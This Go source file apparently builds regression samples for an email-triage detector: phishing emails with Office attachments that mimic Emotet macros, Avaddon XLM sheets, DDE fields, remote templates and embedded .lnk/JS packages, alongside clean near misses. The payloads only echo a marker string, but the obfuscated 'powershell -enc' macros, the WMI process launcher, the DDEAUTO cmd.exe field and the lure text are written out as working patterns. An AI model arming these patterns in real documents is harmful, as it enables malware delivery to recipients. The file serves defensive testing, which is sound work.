package main

import (
	"fmt"
	"strings"
	"time"

	"triage/samples/gen/office"
	"triage/samples/gen/office/ole"
	"triage/samples/gen/office/ovba"
)

// officeSamples returns the Office-document samples (OLE, OOXML, RTF).
func officeSamples() []Sample {
	return []Sample{
		{"malicious", "emotet-doc-jp", "emotet", 1,
			"§1 Emotet Japan lure: 請求書.doc whose Document_Open calls a helper that builds \"powershell -enc \" from Chr() codes, appends base64 of Write-Output 'TRIAGE-REGRESSION' (UTF-16LE) and only MsgBoxes it; a never-called sub holds winmgmts:\\\\.\\root\\cimv2:Win32_Process and .Create; ten unused decoy functions; cp932 project with a Japanese comment. Mail from 山田 太郎 <taro@free-mail.example>, subject RE: 請求書の件 (ISO-2022-JP), no In-Reply-To.",
			true, emotetDocJP},
		{"malicious", "emotet-doc-userform", "emotet", 1,
			"§1 Emotet variant hiding the command in a UserForm: UserForm1 designer storage (f, o, \\x03VBFrame) whose TextBox1 value is \"powershell -enc …\"; Module1 reads UserForm1.TextBox1.Text from Document_Open; the VBA project is password-locked (CMG/DPB/GC).",
			true, emotetDocUserForm},
		{"malicious", "emotet-xls", "emotet", 1,
			"§1 Emotet macro in an Excel 97 workbook: Workbook_Open in ThisWorkbook calls the Chr()-built powershell -enc helper (MsgBox only) under _VBA_PROJECT_CUR; BIFF8 Workbook stream with OBPROJ/CODENAME.",
			true, emotetXls},
		{"malicious", "emotet-docm", "emotet", 1,
			"§1 Emotet macro as a .docm: the same cp932 VBA project (Document_Open, Chr()-built powershell -enc, WMI sub, decoys) in word/vbaProject.bin.",
			true, emotetDocm},
		{"malicious", "emotet-de-rechnung", "emotet", 3,
			"§3 Emotet's September 2019 return: the §1 document as Rechnung_2019-09-16.doc, subject AW: Rechnung with benign quoted German text and no References header.",
			true, emotetDeRechnung},
		{"malicious", "online-video-docx", "online-video", 4,
			"§4 Word online-video trick: a .docx whose wp15:webVideoPr embeddedHtml is an <iframe> on http://example.invalid/regress/video.html (not a video provider), with an a:hlinkClick to the same page.",
			true, onlineVideoDocx},
		{"malicious", "online-video-script", "online-video", 4,
			"§4 online-video trick with <script>/*TRIAGE-REGRESSION*/</script> after the example.invalid iframe in embeddedHtml.",
			true, onlineVideoScript},
		{"clean", "online-video-youtube", "online-video", 4,
			"Near miss for §4: a .docx with a genuine YouTube online video (iframe src https://www.youtube.com/embed/…, hlinkClick to youtube.com) sent by a colleague.",
			false, onlineVideoYouTube},
		{"malicious", "remote-template-docx", "engine", 0,
			"Remote template injection: word/settings.xml attachedTemplate whose relationship targets http://example.invalid/regress/template.dotm with TargetMode External; no macros in the .docx itself.",
			true, remoteTemplateDocx},
		{"malicious", "dde-docx", "engine", 0,
			"DDE field (the §5 T1559.002 technique in Word): a .docx complex field whose instrText, split across runs (\" DDE\" + \"AUTO …\"), is DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k echo TRIAGE-REGRESSION\".",
			true, ddeDocx},
		{"malicious", "rtf-package", "lnk", 15,
			"§15 2017 variant where the embedded .lnk became JavaScript: an RTF (named invoice_0417.doc) with \\object\\objemb, \\objclass Package and \\objdata (hex broken by whitespace and a junk control word) holding an OLE Package of invoice_0417.js (WScript.Shell Run of cmd /c echo TRIAGE-REGRESSION).",
			true, rtfPackage},
		{"malicious", "lnk-in-doc", "lnk", 15,
			"§15 Word attachment embedding a shortcut: 支払い請求書.doc whose ObjectPool holds an OLE Package (\\x01Ole10Native) of 請求書.pdf.lnk targeting powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand …, ShowCommand 7.",
			true, lnkInDoc},
		{"malicious", "avaddon-xlm", "avaddon", 13,
			"§13 Avaddon Excel 4.0 lure: an .xlsm with a veryHidden macro sheet (xl/macrosheets/sheet1.xml) whose _xlnm.Auto_Open cell holds =ALERT(\"TRIAGE-REGRESSION\") then =HALT(); Italian labour-inspectorate COVID wording.",
			true, avaddonXLM},
		{"malicious", "xlm-xls", "avaddon", 13,
			"§13 XLM in BIFF8: an .xls whose BOUNDSHEET marks Macro1 as a very hidden macro sheet (type 1), with a built-in Auto_Open name (ptgRef3d to Macro1!$A$1) and FORMULA cells ALERT(\"TRIAGE-REGRESSION\") / HALT().",
			true, xlmXls},
		{"clean", "macro-table-doc", "emotet", 1,
			"Near miss for §1: a colleague's .doc whose only macro, FormatTable in NewMacros, styles the first table; no auto-exec entry, no shell or network primitives.",
			false, macroTableDoc},
		{"clean", "docx-plain", "engine", 0,
			"A plain business .docx (meeting minutes with a table) from a colleague; no macros, external relationships or embedded objects.",
			false, docxPlain},
		{"clean", "xlsx-report", "avaddon", 13,
			"Near miss for §13: a macro-free .xlsx sales report (shared strings and a SUM formula) from a colleague.",
			false, xlsxReport},
	}
}

// --- document content ------------------------------------------------------

// Content types of the Office attachments.
const (
	ctDoc  = "application/msword"
	ctXls  = "application/vnd.ms-excel"
	ctDocm = "application/vnd.ms-word.document.macroEnabled.12"
	ctDocx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
	ctXlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
	ctXlsm = "application/vnd.ms-excel.sheet.macroEnabled.12"
)

// emotetCommand is the command the §1 macros assemble; the base64 decodes
// (UTF-16LE) to Write-Output 'TRIAGE-REGRESSION'.
func emotetCommand() string { return "powershell -enc " + helloCommand() }

// chrConcat spells s as Chr(n) & Chr(n) & … .
func chrConcat(s string) string {
	parts := make([]string, 0, len(s))
	for _, c := range []byte(s) {
		parts = append(parts, fmt.Sprintf("Chr(%d)", c))
	}
	return strings.Join(parts, " & ")
}

// emotetModule is Module1 of the §1 samples. fromForm selects where the
// command comes from: built from Chr() codes plus a base64 literal, or read
// from UserForm1.TextBox1. comment is the first line.
func emotetModule(comment string, fromForm bool) string {
	var sb strings.Builder
	sb.WriteString("' " + comment + "\n")
	sb.WriteString("Option Explicit\n\n")
	if fromForm {
		sb.WriteString("Public Sub Kx7Run()\n" +
			"    Dim c As String\n" +
			"    c = UserForm1.TextBox1.Text\n" +
			"    MsgBox c, vbInformation, \"" + Marker + "\"\n" +
			"End Sub\n\n")
	} else {
		sb.WriteString("Private Function Hx2() As String\n" +
			"    Dim p As String\n" +
			"    p = " + chrConcat("powershell -enc ") + "\n" +
			"    Hx2 = p\n" +
			"End Function\n\n" +
			"Public Sub Kx7Run()\n" +
			"    Dim c As String\n" +
			"    c = Hx2() & \"" + helloCommand() + "\"\n" +
			"    MsgBox c, vbInformation, \"" + Marker + "\"\n" +
			"End Sub\n\n")
	}
	// Never called: the WMI process launch the 2019 waves used.
	sb.WriteString("Private Sub Wm3Spawn()\n" +
		"    Dim w As Object\n" +
		"    Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\n" +
		"    w.Create \"cmd.exe /c echo " + Marker + "\", Null, Null, 0\n" +
		"End Sub\n")
	for i := 1; i <= 10; i++ {
		sb.WriteString(decoy(i))
	}
	return sb.String()
}

// decoy is an unused junk function, different for each i.
func decoy(i int) string {
	name := fmt.Sprintf("Zr%02dq%c", i, 'a'+rune(i))
	switch i % 3 {
	case 0:
		return fmt.Sprintf("\nPrivate Function %s(ByVal n As Long) As Long\n"+
			"    Dim i As Long, t As Long\n"+
			"    For i = 1 To n\n"+
			"        t = t + (i Mod %d) * %d\n"+
			"    Next i\n"+
			"    %s = t\n"+
			"End Function\n", name, 3+i, 7*i, name)
	case 1:
		return fmt.Sprintf("\nPrivate Function %s(ByVal s As String) As String\n"+
			"    %s = Replace(StrReverse(s), \"%c\", \"\") & Mid(\"%s\", %d, 2)\n"+
			"End Function\n", name, name, 'q'+rune(i%5), strings.Repeat("xkcdwq", 2), 1+i%5)
	default:
		return fmt.Sprintf("\nPrivate Function %s() As Double\n"+
			"    Dim a As Double\n"+
			"    a = Sqr(%d) * Atn(%d) / %d\n"+
			"    %s = Round(a, %d)\n"+
			"End Function\n", name, 17*i, i, 2+i, name, i%4)
	}
}

const documentOpen = "Private Sub Document_Open()\n    Kx7Run\nEnd Sub\n"

func emotetProject(fromForm, locked bool) *ovba.Project {
	p := &ovba.Project{
		CodePage: 932,
		LCID:     0x0411,
		Modules: []ovba.Module{
			{Name: "ThisDocument", Kind: ovba.Document, Base: ovba.BaseWordDocument, Code: documentOpen},
			{Name: "Module1", Kind: ovba.Procedural, Code: emotetModule("請求書テンプレート用の書式設定マクロ", fromForm)},
		},
	}
	if fromForm {
		p.Modules = append(p.Modules, ovba.Module{Name: "UserForm1", Kind: ovba.Form,
			TextBoxes: []ovba.TextBox{{Name: "TextBox1", Value: emotetCommand()}}})
	}
	if locked {
		p.Password = "regress"
	}
	return p
}

// emotetDocTime is the creation and save time of the §1 documents.
func emotetDocTime() time.Time { return time.Date(2019, 12, 16, 8, 41, 0, 0, time.UTC) }

// enableContentText is the lure text shown in the §1 documents.
var enableContentText = []string{
	"このドキュメントは保護されています。",
	"内容を表示するには、上部の「編集を有効にする」をクリックし、次に「コンテンツの有効化」をクリックしてください。",
}

// lureDoc is a Japanese Word 97 document showing enableContentText with
// the VBA project p, created and saved at when by "user".
func lureDoc(p *ovba.Project, when time.Time) ([]byte, error) {
	return office.Doc(p, office.DocOptions{
		Paragraphs: enableContentText,
		CodePage:   932,
		LID:        0x0411,
		Meta:       office.Meta{Author: "user", LastAuthor: "user", Created: when, Saved: when},
	})
}

func emotetDoc(fromForm, locked bool) ([]byte, error) {
	return lureDoc(emotetProject(fromForm, locked), emotetDocTime())
}

// --- §1 Emotet -------------------------------------------------------------

// emotetJPMessage wraps a lure document in the §1 mail.
func emotetJPMessage(date time.Time, msgID, boundary, name, ctype string, doc []byte) ([]byte, error) {
	return email{
		header: hdr{
			date:    date,
			from:    [2]string{"山田 太郎", "taro@free-mail.example"},
			to:      [2]string{"", "tanaka@corp.example"},
			subject: "RE: 請求書の件",
			charset: csISO2022,
			msgID:   msgID,
		},
		charset: csISO2022, cte: cte7bit,
		body: "お世話になっております。\n\n" +
			"請求書を添付いたします。\n" +
			"コンテンツの有効化をクリックしてください\n\n" +
			"山田\n",
		boundary: boundary,
		files:    []file{{name, ctype, csISO2022, doc}},
	}.bytes()
}

func emotetDocJP() ([]byte, error) {
	doc, err := emotetDoc(false, false)
	if err != nil {
		return nil, err
	}
	return emotetJPMessage(time.Date(2019, 12, 16, 18, 3, 27, 0, jst), "20191216180327.5E1A9C@free-mail.example",
		"----=_NextPart_000_0001_01D5B43C.1F2E3D40", "請求書.doc", ctDoc, doc)
}

func emotetDocUserForm() ([]byte, error) {
	doc, err := emotetDoc(true, true)
	if err != nil {
		return nil, err
	}
	return emotetJPMessage(time.Date(2019, 12, 17, 10, 12, 5, 0, jst), "20191217101205.77B0D2@free-mail.example",
		"----=_NextPart_000_0002_01D5B4C5.2A3B4C50", "請求書_1217.doc", ctDoc, doc)
}

func emotetXls() ([]byte, error) {
	p := &ovba.Project{
		Modules: []ovba.Module{
			{Name: "ThisWorkbook", Kind: ovba.Document, Base: ovba.BaseExcelWorkbook, Code: "Private Sub Workbook_Open()\n    Kx7Run\nEnd Sub\n"},
			{Name: "Sheet1", Kind: ovba.Document, Base: ovba.BaseExcelSheet},
			{Name: "Module1", Kind: ovba.Procedural, Code: emotetModule("invoice sheet helpers", false)},
		},
	}
	xls, err := office.Xls(office.Workbook{
		Sheets: []office.Sheet{{Name: "Sheet1", CodeName: "Sheet1", Cells: []office.Cell{
			{Row: 0, Col: 0, Text: enableContentText[0]},
			{Row: 1, Col: 0, Text: enableContentText[1]},
		}}},
		VBA:      p,
		CodeName: "ThisWorkbook",
		Meta:     office.Meta{Author: "user", LastAuthor: "user", Created: emotetDocTime(), Saved: emotetDocTime()},
	})
	if err != nil {
		return nil, err
	}
	return emotetJPMessage(time.Date(2020, 1, 14, 9, 47, 51, 0, jst), "20200114094751.3C9F01@free-mail.example",
		"----=_NextPart_000_0003_01D5CAE4.6B7C8D90", "請求書_0114.xls", ctXls, xls)
}

func emotetDocm() ([]byte, error) {
	bin, err := emotetProject(false, false).Bin()
	if err != nil {
		return nil, err
	}
	docm, err := office.Docm(bin, office.DocxOptions{
		Paragraphs: enableContentText,
		Meta:       office.Meta{Author: "user", LastAuthor: "user", Created: emotetDocTime(), Saved: emotetDocTime()},
	})
	if err != nil {
		return nil, err
	}
	return emotetJPMessage(time.Date(2020, 1, 15, 14, 20, 9, 0, jst), "20200115142009.90AE4B@free-mail.example",
		"----=_NextPart_000_0004_01D5CBB1.7C8D9EA0", "請求書_0115.docm", ctDocm, docm)
}

// --- §3 Emotet DE ----------------------------------------------------------

func emotetDeRechnung() ([]byte, error) {
	doc, err := emotetDoc(false, false)
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2019, 9, 16, 11, 24, 38, 0, cet),
			from:    [2]string{"Markus Weber", "m.weber@mail-anbieter.example"},
			to:      [2]string{"", "buchhaltung@corp.example"},
			subject: "AW: Rechnung",
			msgID:   "20190916112438.6F1D@mail-anbieter.example",
		},
		charset: csUTF8, cte: cteQP,
		body: "Hallo,\n\n" +
			"anbei die Rechnung wie besprochen.\n\n" +
			"Mit freundlichen Grüßen\n" +
			"Markus Weber\n\n" +
			"-----Ursprüngliche Nachricht-----\n" +
			"Von: Buchhaltung\n" +
			"Gesendet: Freitag, 13. September 2019 10:12\n" +
			"Betreff: Rechnung\n\n" +
			"> Guten Tag Herr Weber,\n" +
			">\n" +
			"> bitte senden Sie uns die Rechnung für August.\n" +
			">\n" +
			"> Vielen Dank\n",
		boundary: "----=_Part_41877_1543288.1568625878000",
		files:    []file{{"Rechnung_2019-09-16.doc", ctDoc, csUTF8, doc}},
	}.bytes()
}

// --- §4 online video -------------------------------------------------------

func videoMessage(date time.Time, msgID, boundary string, from [2]string, trace []field, v *office.OnlineVideo) ([]byte, error) {
	docx, err := office.Docx(office.DocxOptions{
		Paragraphs: []string{"新製品の紹介動画です。", "再生ボタンをクリックしてご覧ください。"},
		Video:      v,
		Meta:       office.Meta{Author: from[0], LastAuthor: from[0], Created: date.Add(-2 * time.Hour), Saved: date.Add(-time.Hour)},
	})
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    date,
			from:    from,
			to:      [2]string{"", "watanabe@corp.example"},
			subject: "新製品のご紹介動画",
			charset: csISO2022,
			msgID:   msgID,
			trace:   trace,
		},
		charset: csISO2022, cte: cte7bit,
		body: "お世話になっております。\n\n" +
			"新製品の紹介動画をWord文書に埋め込みました。\n" +
			"添付ファイルを開いて再生してください。\n",
		boundary: boundary,
		files:    []file{{"製品紹介.docx", ctDocx, csISO2022, docx}},
	}.bytes()
}

const regressVideo = "http://example.invalid/regress/video.html"

func onlineVideoDocx() ([]byte, error) {
	return videoMessage(time.Date(2018, 12, 10, 15, 2, 11, 0, jst), "20181210150211.1B2C@promo-video.example",
		"=_video_0101", [2]string{"広報部", "pr@promo-video.example"}, nil,
		&office.OnlineVideo{
			EmbeddedHTML: `<iframe src="` + regressVideo + `" width="640" height="360"></iframe>`,
			LinkURL:      regressVideo,
		})
}

func onlineVideoScript() ([]byte, error) {
	return videoMessage(time.Date(2018, 12, 11, 9, 40, 55, 0, jst), "20181211094055.2C3D@promo-video.example",
		"=_video_0102", [2]string{"広報部", "pr@promo-video.example"}, nil,
		&office.OnlineVideo{
			EmbeddedHTML: `<iframe src="` + regressVideo + `" width="640" height="360"></iframe><script>/*` + Marker + `*/</script>`,
			LinkURL:      regressVideo,
		})
}

func onlineVideoYouTube() ([]byte, error) {
	return videoMessage(time.Date(2018, 12, 12, 13, 5, 0, 0, jst), "20181212130500.3D4E@corp.example",
		"=_video_0103", [2]string{"広報部 小林", "kobayashi@corp.example"},
		corpTrace(),
		&office.OnlineVideo{
			EmbeddedHTML: `<iframe width="640" height="360" src="https://www.youtube.com/embed/aqz-KE-bpKQ?feature=oembed" frameborder="0" allow="accelerometer; autoplay; encrypted-media; gyroscope; picture-in-picture" allowfullscreen=""></iframe>`,
			LinkURL:      "https://www.youtube.com/watch?v=aqz-KE-bpKQ",
		})
}

// --- template injection and DDE --------------------------------------------

func remoteTemplateDocx() ([]byte, error) {
	when := time.Date(2020, 6, 2, 8, 15, 0, 0, time.UTC)
	docx, err := office.Docx(office.DocxOptions{
		Paragraphs:  []string{"Travel expense claim form", "Please complete all fields and return the form to HR by Friday."},
		TemplateURL: "http://example.invalid/regress/template.dotm",
		Meta:        office.Meta{Author: "HR", LastAuthor: "HR", Template: "template.dotm", Created: when, Saved: when},
	})
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2020, 6, 2, 10, 31, 7, 0, bst),
			from:    [2]string{"HR Department", "hr@staff-portal.example"},
			to:      [2]string{"", "staff@corp.example"},
			subject: "Updated travel expense form",
			msgID:   "20200602103107.5A6B@staff-portal.example",
		},
		charset: csASCII, cte: cte7bit,
		body:     "Hello,\n\nplease use the updated travel expense form attached.\n\nHR Department\n",
		boundary: "=_template_0201",
		files:    []file{{"Travel_Expense_Form.docx", ctDocx, csUTF8, docx}},
	}.bytes()
}

func ddeDocx() ([]byte, error) {
	when := time.Date(2017, 10, 20, 7, 0, 0, 0, time.UTC)
	docx, err := office.Docx(office.DocxOptions{
		Paragraphs:  []string{"Shipment notice", "The delivery documents are linked below."},
		Field:       []string{" DDE", `AUTO c:\\windows\\system32\\cmd.exe `, `"/k echo ` + Marker + `"`},
		FieldResult: "!Unexpected End of Formula",
		Meta:        office.Meta{Author: "user", LastAuthor: "user", Created: when, Saved: when},
	})
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2017, 10, 20, 9, 12, 44, 0, est),
			from:    [2]string{"Logistics", "notice@freight-track.example"},
			to:      [2]string{"", "orders@corp.example"},
			subject: "Shipment notice 88213",
			msgID:   "20171020091244.7C8D@freight-track.example",
		},
		charset: csASCII, cte: cte7bit,
		body:     "Dear customer,\n\nyour shipment documents are attached.\n\nLogistics team\n",
		boundary: "=_dde_0301",
		files:    []file{{"Shipment_Notice.docx", ctDocx, csUTF8, docx}},
	}.bytes()
}

// --- §15 embedded packages ---------------------------------------------------

func rtfPackage() ([]byte, error) {
	js := "// " + Marker + " inert sample\r\n" +
		"var sh = new ActiveXObject(\"WScript.Shell\");\r\n" +
		"sh.Run(\"cmd /c echo " + Marker + "\", 0, false);\r\n"
	rtf, err := office.RTF(office.RTFOptions{
		Paragraphs: []string{"請求書を添付いたします。", "下のアイコンをダブルクリックして内容をご確認ください。"},
		Package: ole.Package{
			Label:      "invoice_0417.js",
			SourcePath: `C:\Users\user\Desktop\invoice_0417.js`,
			TempPath:   `C:\Users\user\AppData\Local\Temp\invoice_0417.js`,
			Data:       []byte(js),
		},
		Obfuscate: true,
	})
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2017, 4, 17, 9, 5, 31, 0, jst),
			from:    [2]string{"経理部 佐々木", "sasaki@seikyu-mail.example"},
			to:      [2]string{"", "nakamura@corp.example"},
			subject: "支払い請求書の送付",
			charset: csISO2022,
			msgID:   "20170417090531.8D9E@seikyu-mail.example",
		},
		charset: csISO2022, cte: cte7bit,
		body:     "お世話になっております。\n\n支払い請求書をお送りいたします。\nご確認のほどよろしくお願いいたします。\n",
		boundary: "=_rtfpkg_0401",
		files:    []file{{"invoice_0417.doc", ctDoc, csISO2022, rtf}},
	}.bytes()
}

func lnkInDoc() ([]byte, error) {
	lnk, err := lnkLure()
	if err != nil {
		return nil, err
	}
	when := time.Date(2017, 3, 21, 1, 10, 0, 0, time.UTC)
	doc, err := office.Doc(nil, office.DocOptions{
		Paragraphs: []string{"支払い請求書", "請求書ファイルを埋め込みました。下のアイコンをダブルクリックして開いてください。"},
		CodePage:   932,
		LID:        0x0411,
		Meta:       office.Meta{Author: "user", LastAuthor: "user", Created: when, Saved: when},
		Packages: []ole.Package{{
			Label:      "請求書.pdf.lnk",
			SourcePath: `C:\Users\user\Desktop\請求書.pdf.lnk`,
			TempPath:   `C:\Users\user\AppData\Local\Temp\請求書.pdf.lnk`,
			Data:       lnk,
		}},
	})
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2017, 3, 21, 10, 33, 12, 0, jst),
			from:    [2]string{"請求センター", "billing@shiharai-center.example"},
			to:      [2]string{"", "kimura@corp.example"},
			subject: "支払い請求書",
			charset: csISO2022,
			msgID:   "20170321103312.9EAF@shiharai-center.example",
		},
		charset: csISO2022, cte: cte7bit,
		body:     "お世話になっております。\n\n支払い請求書を添付いたします。\n期日までにお支払いをお願いいたします。\n",
		boundary: "=_lnkdoc_0402",
		files:    []file{{"支払い請求書.doc", ctDoc, csISO2022, doc}},
	}.bytes()
}

// --- §13 XLM -----------------------------------------------------------------

func xlmWorkbook() office.Workbook {
	when := time.Date(2020, 7, 6, 7, 30, 0, 0, time.UTC)
	return office.Workbook{
		Sheets: []office.Sheet{
			{Name: "Foglio1", Cells: []office.Cell{
				{Row: 0, Col: 0, Text: "Ispettorato Nazionale del Lavoro"},
				{Row: 1, Col: 0, Text: "Documento protetto: abilitare il contenuto per visualizzare."},
			}},
			{Name: "Macro1", Macro: true, State: office.VeryHidden, Cells: []office.Cell{
				{Row: 0, Col: 0, Formula: `ALERT("` + Marker + `")`},
				{Row: 1, Col: 0, Formula: "HALT()"},
			}},
		},
		AutoOpen: &office.CellRef{Sheet: 1, Row: 0, Col: 0},
		Meta:     office.Meta{Author: "INL", LastAuthor: "INL", Created: when, Saved: when},
	}
}

func xlmMessage(date time.Time, msgID, boundary, name, ctype string, data []byte) ([]byte, error) {
	return email{
		header: hdr{
			date:    date,
			from:    [2]string{"Ispettorato Nazionale del Lavoro", "avvisi@inl-notifiche.example"},
			to:      [2]string{"", "amministrazione@corp.example"},
			subject: "Documentazione periodo di crisi COVID-19",
			msgID:   msgID,
		},
		charset: csUTF8, cte: cteQP,
		body: "Gentile utente,\n\n" +
			"in riferimento al periodo di crisi COVID-19, trasmettiamo in allegato la documentazione aggiornata.\n\n" +
			"Ispettorato Nazionale del Lavoro\n",
		boundary: boundary,
		files:    []file{{name, ctype, csUTF8, data}},
	}.bytes()
}

func avaddonXLM() ([]byte, error) {
	xlsm, err := office.Xlsm(xlmWorkbook())
	if err != nil {
		return nil, err
	}
	return xlmMessage(time.Date(2020, 7, 6, 10, 2, 18, 0, cet), "20200706100218.AF01@inl-notifiche.example",
		"=_xlm_0501", "Documento_INL_2020.xlsm", ctXlsm, xlsm)
}

func xlmXls() ([]byte, error) {
	xls, err := office.Xls(xlmWorkbook())
	if err != nil {
		return nil, err
	}
	return xlmMessage(time.Date(2020, 7, 7, 9, 14, 40, 0, cet), "20200707091440.B012@inl-notifiche.example",
		"=_xlm_0502", "Avviso_INL_2020.xls", ctXls, xls)
}

// --- clean ---------------------------------------------------------------------

func macroTableDoc() ([]byte, error) {
	p := &ovba.Project{
		Modules: []ovba.Module{
			{Name: "ThisDocument", Kind: ovba.Document, Base: ovba.BaseWordDocument},
			{Name: "NewMacros", Kind: ovba.Procedural, Code: "Sub FormatTable()\n" +
				"'\n" +
				"' FormatTable Macro\n" +
				"' Applies the house style to the first table of the document.\n" +
				"'\n" +
				"    Dim t As Table\n" +
				"    If ActiveDocument.Tables.Count = 0 Then Exit Sub\n" +
				"    Set t = ActiveDocument.Tables(1)\n" +
				"    t.Style = \"Table Grid\"\n" +
				"    t.Rows(1).Range.Font.Bold = True\n" +
				"    t.Rows(1).Shading.BackgroundPatternColor = wdColorGray15\n" +
				"    t.Rows.Alignment = wdAlignRowCenter\n" +
				"    t.AutoFitBehavior wdAutoFitContent\n" +
				"End Sub\n"},
		},
	}
	when := time.Date(2020, 2, 3, 6, 0, 0, 0, time.UTC)
	doc, err := office.Doc(p, office.DocOptions{
		Paragraphs: []string{"Monthly sales summary", "Region\tJanuary\tFebruary", "East\t1200\t1350", "West\t980\t1010",
			"Run the FormatTable macro (Developer > Macros) to apply the house table style."},
		Meta: office.Meta{Title: "Monthly sales summary", Author: "Kenji Sato", LastAuthor: "Kenji Sato", Created: when, Saved: when},
	})
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2020, 2, 3, 15, 20, 0, 0, jst),
			from:    [2]string{"Kenji Sato", "k.sato@corp.example"},
			to:      [2]string{"", "tanaka@corp.example"},
			subject: "Sales summary template",
			msgID:   "20200203152000.C123@corp.example",
			trace:   corpTrace(),
		},
		charset: csASCII, cte: cte7bit,
		body: "Hi Tanaka-san,\n\n" +
			"here is the sales summary template. The FormatTable macro only applies our table style;\n" +
			"run it from Developer > Macros if you add rows.\n\n" +
			"Kenji\n",
		boundary: "=_clean_0601",
		files:    []file{{"Sales_Summary_Template.doc", ctDoc, csUTF8, doc}},
	}.bytes()
}

func docxPlain() ([]byte, error) {
	when := time.Date(2020, 7, 9, 5, 30, 0, 0, time.UTC)
	docx, err := office.Docx(office.DocxOptions{
		Paragraphs: []string{"Project meeting minutes – 9 July 2020",
			"Attendees: Sato, Tanaka, Suzuki",
			"The team reviewed the schedule for the Q3 release and agreed on the items below."},
		Table: [][]string{
			{"Item", "Owner", "Due"},
			{"Finalise test plan", "Tanaka", "2020-07-17"},
			{"Update customer guide", "Suzuki", "2020-07-24"},
			{"Release review", "Sato", "2020-07-31"},
		},
		Meta: office.Meta{Title: "Meeting minutes", Author: "Hanako Tanaka", LastAuthor: "Hanako Tanaka", Created: when, Saved: when},
	})
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2020, 7, 9, 17, 45, 12, 0, jst),
			from:    [2]string{"Hanako Tanaka", "tanaka@corp.example"},
			to:      [2]string{"", "project-team@corp.example"},
			subject: "Meeting minutes 9 July",
			msgID:   "20200709174512.D234@corp.example",
			trace:   corpTrace(),
		},
		charset: csASCII, cte: cte7bit,
		body:     "Hello all,\n\nattached are the minutes of today's project meeting.\n\nBest regards,\nHanako\n",
		boundary: "=_clean_0602",
		files:    []file{{"Meeting_Minutes_2020-07-09.docx", ctDocx, csUTF8, docx}},
	}.bytes()
}

func xlsxReport() ([]byte, error) {
	when := time.Date(2020, 7, 1, 2, 0, 0, 0, time.UTC)
	cells := []office.Cell{{Row: 0, Col: 0, Text: "Month"}, {Row: 0, Col: 1, Text: "Sales (JPY)"}}
	months := []string{"April", "May", "June"}
	sales := []float64{1250000, 1310000, 1420500}
	total := 0.0
	for i, m := range months {
		cells = append(cells, office.Cell{Row: i + 1, Col: 0, Text: m}, office.Cell{Row: i + 1, Col: 1, Number: sales[i]})
		total += sales[i]
	}
	cells = append(cells, office.Cell{Row: 4, Col: 0, Text: "Total"}, office.Cell{Row: 4, Col: 1, Formula: "SUM(B2:B4)", Number: total})
	xlsx, err := office.Xlsx(office.Workbook{
		Sheets: []office.Sheet{{Name: "Q1 report", Cells: cells}},
		Meta:   office.Meta{Title: "Q1 sales", Author: "Ichiro Suzuki", LastAuthor: "Ichiro Suzuki", Created: when, Saved: when},
	})
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2020, 7, 1, 11, 5, 0, 0, jst),
			from:    [2]string{"Ichiro Suzuki", "suzuki@corp.example"},
			to:      [2]string{"", "finance@corp.example"},
			subject: "Q1 sales report",
			msgID:   "20200701110500.E345@corp.example",
			trace:   corpTrace(),
		},
		charset: csASCII, cte: cte7bit,
		body:     "Hi,\n\nthe Q1 sales report is attached.\n\nIchiro\n",
		boundary: "=_clean_0603",
		files:    []file{{"Q1_Sales_Report.xlsx", ctXlsx, csUTF8, xlsx}},
	}.bytes()
}
